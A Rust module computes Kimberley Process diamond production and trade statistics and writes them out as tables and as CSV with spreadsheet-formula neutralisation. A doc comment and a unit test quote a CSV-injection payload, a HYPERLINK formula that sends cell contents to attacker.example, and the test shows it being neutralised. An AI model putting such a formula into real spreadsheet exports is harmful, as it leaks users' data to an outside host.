//! KP statistics (KPCS Annex III): production by country of origin, region and
//! mine site; exports and imports by country, HS code, partner and origin, with carats,
//! US-dollar value, US$/ct and the number of certificates. Origin (where stones were mined)
//! and provenance (the last exporting country) are kept apart: trade rows name both, and
//! `exports_by_origin` shares mixed-origin shipments out by the ledger's history.
//!
//! Every amount is an integer: points (0.01 ct) and US cents; US$/ct is cents per carat,
//! rounded half up.

use std::collections::{BTreeMap, BTreeSet};

use kpledger_model::OriginClaim;
use kpledger_verify::Finding;
use serde::Serialize;

use crate::book::Book;
use crate::fmt::{ct, per_ct, text_table_of, usd, usd_per_ct};
use crate::period::Period;

/// The JSON format name (`schemas/stats.schema.json`).
pub const STATS_FORMAT: &str = "kpledger/stats/v1";

/// Statistics of one period.
#[derive(Debug, Clone, Serialize)]
pub struct Stats {
    /// Always [`STATS_FORMAT`].
    pub format: &'static str,
    /// The ledger's origin name.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ledger: Option<String>,
    /// The days the figures cover (first and last included).
    pub period: Period,
    /// Production (extractions in the period).
    pub production: Production,
    /// Exports: certificates issued in the period.
    pub exports: Vec<TradeRow>,
    /// Imports: shipments received in the period.
    pub imports: Vec<TradeRow>,
    /// Exports shared out by country of origin (mixed lots by their history).
    pub exports_by_origin: Vec<OriginRow>,
    /// Per country: production, exports and imports.
    pub totals: Vec<CountryTotal>,
    /// Red flags (ST-1..ST-5, SW-1) dated in the period.
    pub red_flags: Vec<Finding>,
}

/// Production, three ways.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Production {
    /// By country of origin.
    pub by_country: Vec<ProductionRow>,
    /// By country and region.
    pub by_region: Vec<ProductionRow>,
    /// By mine site.
    pub by_site: Vec<ProductionRow>,
}

/// One production line.
#[derive(Debug, Clone, Default, Serialize)]
pub struct ProductionRow {
    /// Country of origin.
    pub country: String,
    /// Region (by region and by site).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub region: Option<String>,
    /// Mine site id (by site).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub site: Option<String>,
    /// Parcels registered.
    pub parcels: u64,
    /// Carats, in points.
    pub carats_pt: u64,
    /// Value at first sale by the miner, in cents (parcels not yet sold count no value).
    pub value_usd_cents: u64,
    /// Carats of parcels not yet sold by the miner (no value yet), in points.
    pub unvalued_pt: u64,
    /// Value per carat of the valued carats, in cents.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub usd_cents_per_ct: Option<u64>,
}

/// One trade line (exports or imports).
#[derive(Debug, Clone, Serialize)]
pub struct TradeRow {
    /// The exporting (or importing) country.
    pub country: String,
    /// HS code.
    pub hs_code: String,
    /// Destination (for exports) or provenance, the exporting country (for imports).
    pub partner: String,
    /// Country of origin on the certificate, or `mixed`.
    pub origin: String,
    /// Certificates with a line of this HS code.
    pub certificates: u64,
    /// Carats, in points.
    pub carats_pt: u64,
    /// Value in cents.
    pub value_usd_cents: u64,
    /// Value per carat, in cents.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub usd_cents_per_ct: Option<u64>,
}

/// Exports of one exporting country from one country of origin.
#[derive(Debug, Clone, Serialize)]
pub struct OriginRow {
    /// Exporting country (provenance).
    pub country: String,
    /// Country of origin (`mixed` where a foreign certificate gave no breakdown).
    pub origin: String,
    /// Carats, in points.
    pub carats_pt: u64,
    /// Value in cents.
    pub value_usd_cents: u64,
}

/// A country's totals for the period.
#[derive(Debug, Clone, Default, Serialize)]
pub struct CountryTotal {
    /// Country.
    pub country: String,
    /// Production, in points.
    pub production_pt: u64,
    /// Production value, in cents.
    pub production_usd_cents: u64,
    /// Exports, in points.
    pub exports_pt: u64,
    /// Export value, in cents.
    pub exports_usd_cents: u64,
    /// Of the exports, the carats mined in this country (its own origin), in points: what its
    /// production can account for (mixed lots shared out by their history).
    pub exports_own_origin_pt: u64,
    /// Value of the own-origin exports, in cents.
    pub exports_own_origin_usd_cents: u64,
    /// Of the exports, the carats mined elsewhere (re-exports: stones it imported, already
    /// counted in the exports of the country that exported them first), in points. With the
    /// own-origin carats they make `exports_pt`.
    pub re_exports_pt: u64,
    /// Value of the re-exports, in cents.
    pub re_exports_usd_cents: u64,
    /// Export certificates.
    pub export_certificates: u64,
    /// Imports, in points.
    pub imports_pt: u64,
    /// Import value, in cents.
    pub imports_usd_cents: u64,
    /// Import certificates.
    pub import_certificates: u64,
}

type TradeKey = (String, String, String, String);

fn trade_rows(acc: BTreeMap<TradeKey, (BTreeSet<String>, u64, u64)>) -> Vec<TradeRow> {
    acc.into_iter()
        .map(|((country, hs_code, partner, origin), (certs, pt, cents))| TradeRow {
            country,
            hs_code,
            partner,
            origin,
            certificates: certs.len() as u64,
            carats_pt: pt,
            value_usd_cents: cents,
            usd_cents_per_ct: per_ct(cents, pt),
        })
        .collect()
}

fn origin_label(o: &OriginClaim) -> String {
    o.to_string()
}

impl Stats {
    /// Computes the statistics of `period` from the book; `flags` are the red flags of the
    /// whole book (those dated in the period are kept).
    pub fn compute(book: &Book, period: &Period, flags: &[crate::flags::Flag]) -> Stats {
        let mut totals: BTreeMap<String, CountryTotal> = BTreeMap::new();
        let total =
            |c: &str| -> CountryTotal { CountryTotal { country: c.to_owned(), ..CountryTotal::default() } };

        // Production.
        type ProdKey = (String, Option<String>, Option<String>);
        let mut prod: [BTreeMap<ProdKey, ProductionRow>; 3] = Default::default();
        for e in book.extractions.iter().filter(|e| period.contains_time(&e.time)) {
            let keys = [
                (e.country.clone(), None, None),
                (e.country.clone(), Some(e.region.clone()), None),
                (e.country.clone(), Some(e.region.clone()), Some(e.site.to_string())),
            ];
            for (map, key) in prod.iter_mut().zip(keys) {
                let row = map.entry(key.clone()).or_insert_with(|| ProductionRow {
                    country: key.0.clone(),
                    region: key.1.clone(),
                    site: key.2.clone(),
                    ..ProductionRow::default()
                });
                row.parcels += 1;
                row.carats_pt += e.weight_pt;
                match e.first_sale_cents {
                    Some(v) => row.value_usd_cents += v,
                    None => row.unvalued_pt += e.weight_pt,
                }
            }
            let t = totals.entry(e.country.clone()).or_insert_with(|| total(&e.country));
            t.production_pt += e.weight_pt;
            t.production_usd_cents += e.first_sale_cents.unwrap_or(0);
        }
        let [by_country, by_region, by_site] = prod.map(|m| {
            m.into_values()
                .map(|mut r| {
                    r.usd_cents_per_ct = per_ct(r.value_usd_cents, r.carats_pt - r.unvalued_pt);
                    r
                })
                .collect::<Vec<_>>()
        });

        // Exports: certificates issued in the period.
        let mut exports: BTreeMap<TradeKey, (BTreeSet<String>, u64, u64)> = BTreeMap::new();
        let mut by_origin: BTreeMap<(String, String), (u64, u64)> = BTreeMap::new();
        for c in book.certificates.iter().filter(|c| period.contains(&c.certificate.date_of_issue)) {
            let cert = &c.certificate;
            let country = cert.issuing_country.to_string();
            for l in &cert.lines {
                let key = (
                    country.clone(),
                    l.hs_code.to_string(),
                    cert.importer.country.to_string(),
                    origin_label(&cert.country_of_origin),
                );
                let e = exports.entry(key).or_default();
                e.0.insert(cert.number.to_string());
                e.1 += l.carats_pt.0;
                e.2 += l.value_usd_cents.0;
            }
            let t = totals.entry(country.clone()).or_insert_with(|| total(&country));
            t.exports_pt += cert.carats();
            t.exports_usd_cents += cert.value();
            t.export_certificates += 1;
            for (origin, (pt, cents)) in c.by_origin() {
                if origin == country {
                    t.exports_own_origin_pt += pt;
                    t.exports_own_origin_usd_cents += cents;
                } else {
                    t.re_exports_pt += pt;
                    t.re_exports_usd_cents += cents;
                }
                let e = by_origin.entry((country.clone(), origin)).or_default();
                e.0 += pt;
                e.1 += cents;
            }
        }

        // Imports: shipments received in the period.
        let mut imports: BTreeMap<TradeKey, (BTreeSet<String>, u64, u64)> = BTreeMap::new();
        for i in book.imports.iter().filter(|i| period.contains(&i.date)) {
            let c = &i.certificate;
            let partner = c.issuing_country.to_string();
            for l in &c.lines {
                let key = (
                    i.country.clone(),
                    l.hs_code.to_string(),
                    partner.clone(),
                    origin_label(&c.country_of_origin),
                );
                let e = imports.entry(key).or_default();
                e.0.insert(format!("{partner} {}", c.number));
                e.1 += l.carats_pt.0;
                e.2 += l.value_usd_cents.0;
            }
            let t = totals.entry(i.country.clone()).or_insert_with(|| total(&i.country));
            t.imports_pt += c.lines.iter().map(|l| l.carats_pt.0).sum::<u64>();
            t.imports_usd_cents += c.lines.iter().map(|l| l.value_usd_cents.0).sum::<u64>();
            t.import_certificates += 1;
        }

        let red_flags =
            flags.iter().filter(|f| period.contains(&f.date)).map(|f| f.finding.clone()).collect();
        Stats {
            format: STATS_FORMAT,
            ledger: book.ledger.clone(),
            period: period.clone(),
            production: Production { by_country, by_region, by_site },
            exports: trade_rows(exports),
            imports: trade_rows(imports),
            exports_by_origin: by_origin
                .into_iter()
                .map(|((country, origin), (carats_pt, value_usd_cents))| OriginRow {
                    country,
                    origin,
                    carats_pt,
                    value_usd_cents,
                })
                .collect(),
            totals: totals.into_values().collect(),
            red_flags,
        }
    }
}

/// A table of the statistics, numbers right-aligned, with one row per item, as `row` writes it.
fn table_of<T>(
    headers: &[&str],
    items: impl IntoIterator<Item = T>,
    row: impl FnMut(T) -> Vec<String>,
) -> String {
    text_table_of(headers, items, true, row)
}

fn opt_per_ct(v: Option<u64>) -> String {
    v.map(usd_per_ct).unwrap_or_else(|| "-".into())
}

impl Stats {
    /// The Annex III layout as text: production (semi-annual), exports and imports
    /// (quarterly), exports by origin, totals, red flags.
    pub fn to_table(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "KP statistics (Annex III) — {} — {}\n\n",
            self.ledger.as_deref().unwrap_or("ledger"),
            self.period
        ));
        out.push_str("PRODUCTION by country of origin (value: first sale by the miner)\n");
        let prod = |rows: &[ProductionRow], with_region: bool, with_site: bool| {
            let mut h = vec!["origin"];
            if with_region {
                h.push("region");
            }
            if with_site {
                h.push("mine site");
            }
            h.extend(["parcels", "carats", "US$", "US$/ct"]);
            table_of(&h, rows, |r| {
                let mut v = vec![r.country.clone()];
                if with_region {
                    v.push(r.region.clone().unwrap_or_default());
                }
                if with_site {
                    v.push(r.site.clone().unwrap_or_default());
                }
                v.extend([
                    r.parcels.to_string(),
                    ct(r.carats_pt),
                    usd(r.value_usd_cents),
                    opt_per_ct(r.usd_cents_per_ct),
                ]);
                v
            })
        };
        if self.production.by_country.is_empty() {
            out.push_str("(no production recorded in the period)\n");
        } else {
            out.push_str(&prod(&self.production.by_country, false, false));
            out.push_str("\nby region\n");
            out.push_str(&prod(&self.production.by_region, true, false));
            out.push_str("\nby mine site\n");
            out.push_str(&prod(&self.production.by_site, true, true));
        }
        let trade = |rows: &[TradeRow], partner: &str| {
            table_of(
                &["country", "HS code", partner, "origin", "certificates", "carats", "US$", "US$/ct"],
                rows,
                |r| {
                    vec![
                        r.country.clone(),
                        r.hs_code.clone(),
                        r.partner.clone(),
                        r.origin.clone(),
                        r.certificates.to_string(),
                        ct(r.carats_pt),
                        usd(r.value_usd_cents),
                        opt_per_ct(r.usd_cents_per_ct),
                    ]
                },
            )
        };
        out.push_str("\nEXPORTS by exporting country (provenance), HS code, destination and origin\n");
        if self.exports.is_empty() {
            out.push_str("(no certificate issued in the period)\n");
        } else {
            out.push_str(&trade(&self.exports, "destination"));
        }
        out.push_str("\nIMPORTS by importing country, HS code, provenance (exporting country) and origin\n");
        if self.imports.is_empty() {
            out.push_str("(no import received in the period)\n");
        } else {
            out.push_str(&trade(&self.imports, "from"));
        }
        if !self.exports_by_origin.is_empty() {
            out.push_str(
                "\nEXPORTS by country of origin (mixed lots shared out by their recorded history)\n",
            );
            let headers = ["exporter country", "origin", "carats", "US$", "US$/ct"];
            out.push_str(&table_of(&headers, &self.exports_by_origin, |r| {
                vec![
                    r.country.clone(),
                    r.origin.clone(),
                    ct(r.carats_pt),
                    usd(r.value_usd_cents),
                    opt_per_ct(per_ct(r.value_usd_cents, r.carats_pt)),
                ]
            }));
        }
        out.push_str(
            "\nTOTALS per country (exported = of own origin, mined in the country, + re-exported, mined elsewhere \
             and already counted in the exports of the country that exported it first)\n",
        );
        let headers = [
            "country",
            "produced ct",
            "exported ct",
            "of own origin",
            "re-exported",
            "exports US$",
            "export certs",
            "imported ct",
            "imports US$",
            "import certs",
        ];
        out.push_str(&table_of(&headers, &self.totals, |t| {
            vec![
                t.country.clone(),
                ct(t.production_pt),
                ct(t.exports_pt),
                ct(t.exports_own_origin_pt),
                ct(t.re_exports_pt),
                usd(t.exports_usd_cents),
                t.export_certificates.to_string(),
                ct(t.imports_pt),
                usd(t.imports_usd_cents),
                t.import_certificates.to_string(),
            ]
        }));
        out.push('\n');
        if self.red_flags.is_empty() {
            out.push_str("RED FLAGS: none in the period.\n");
        } else {
            out.push_str(&format!(
                "RED FLAGS ({}, warnings for a person to look at):\n",
                self.red_flags.len()
            ));
            for f in &self.red_flags {
                out.push_str(&format!("  {} {}: {}\n", f.severity, f.code, f.message));
            }
        }
        out
    }

    /// The statistics as one CSV table (RFC 4180), a row per line of every section:
    /// `section,country,region,site,hs_code,partner,origin,certificates,parcels,carats,value_usd,usd_per_ct`.
    /// Carats and dollars are decimals with two places, without separators. Text cells that
    /// a spreadsheet would read as a formula are neutralised (quoted with a leading `'`); numeric cells are
    /// written as numbers.
    pub fn to_csv(&self) -> Result<String, crate::ReportError> {
        let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
        let dec = |v: u64| format!("{}.{:02}", v / 100, v % 100);
        let t = csv_text;
        let opt = |v: Option<u64>| v.map(dec).unwrap_or_default();
        w.write_record([
            "section",
            "country",
            "region",
            "site",
            "hs_code",
            "partner",
            "origin",
            "certificates",
            "parcels",
            "carats",
            "value_usd",
            "usd_per_ct",
        ])?;
        for (section, rows) in [
            ("production_by_country", &self.production.by_country),
            ("production_by_region", &self.production.by_region),
            ("production_by_site", &self.production.by_site),
        ] {
            for r in rows {
                w.write_record([
                    section,
                    &t(&r.country),
                    &t(r.region.as_deref().unwrap_or("")),
                    &t(r.site.as_deref().unwrap_or("")),
                    "",
                    "",
                    &t(&r.country),
                    "",
                    &r.parcels.to_string(),
                    &dec(r.carats_pt),
                    &dec(r.value_usd_cents),
                    &opt(r.usd_cents_per_ct),
                ])?;
            }
        }
        for (section, rows) in [("exports", &self.exports), ("imports", &self.imports)] {
            for r in rows {
                w.write_record([
                    section,
                    &t(&r.country),
                    "",
                    "",
                    &t(&r.hs_code),
                    &t(&r.partner),
                    &t(&r.origin),
                    &r.certificates.to_string(),
                    "",
                    &dec(r.carats_pt),
                    &dec(r.value_usd_cents),
                    &opt(r.usd_cents_per_ct),
                ])?;
            }
        }
        for r in &self.exports_by_origin {
            w.write_record([
                "exports_by_origin",
                &t(&r.country),
                "",
                "",
                "",
                "",
                &t(&r.origin),
                "",
                "",
                &dec(r.carats_pt),
                &dec(r.value_usd_cents),
                &opt(per_ct(r.value_usd_cents, r.carats_pt)),
            ])?;
        }
        // Each country's exports apart by origin: of its own (mined there) and re-exported
        // (mined elsewhere); the two rows make its exports.
        for r in &self.totals {
            for (section, pt, cents) in [
                ("exports_own_origin", r.exports_own_origin_pt, r.exports_own_origin_usd_cents),
                ("re_exports", r.re_exports_pt, r.re_exports_usd_cents),
            ] {
                if r.export_certificates == 0 {
                    continue;
                }
                w.write_record([
                    section,
                    &t(&r.country),
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                    &dec(pt),
                    &dec(cents),
                    &opt(per_ct(cents, pt)),
                ])?;
            }
        }
        let bytes = w.into_inner().map_err(|e| crate::ReportError::Csv(e.to_string()))?;
        String::from_utf8(bytes).map_err(|e| crate::ReportError::Csv(e.to_string()))
    }
}

/// A text cell of a CSV file, safe to open in a spreadsheet: a cell that begins with `=`,
/// `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as
/// a formula (`=HYPERLINK("http://attacker.example/?d="&A1, "Kono")` sends the sheet's cells
/// away when clicked), so it gets a leading single quote, as OWASP's "CSV Injection" page
/// recommends; the quote shows that the cell was changed. Only text cells: numbers are never
/// negative here and stay numbers.
pub(crate) fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod csv_tests {
    use super::csv_text;

    #[test]
    fn formula_cells_are_neutralised_and_others_left_alone() {
        for bad in [
            "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Kono\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(csv_text(bad), format!("'{bad}"), "{bad:?}");
        }
        for good in ["Kono", "", "7102.31", "sl.kono.koidu-12", "a=b", "'quoted"] {
            assert_eq!(csv_text(good), good, "{good:?}");
        }
    }
}
